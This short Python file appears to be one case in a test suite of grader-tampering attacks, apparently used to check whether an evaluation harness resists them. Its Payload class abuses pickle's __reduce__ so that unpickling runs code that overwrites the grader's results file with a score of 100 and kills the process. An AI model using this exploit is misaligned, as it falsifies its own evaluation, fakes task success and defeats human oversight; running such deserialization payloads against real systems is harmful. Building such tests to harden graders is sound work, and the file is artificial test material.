"""28 Return an object that runs code when the grader reads it.

Tries: __reduce__.
Success: all points.
Honest: nothing
Control: naive
"""

from base import *

CODE = """
import os, sys
with open(sys.modules["__main__"].RESULTS, "w") as file:
    file.write('{"score": 100}')
os._exit(0)
"""


class Payload:
    def __reduce__(self):
        return exec, (CODE,)


class Client(Trusting):
    def receive_data(self, data):
        return Payload()
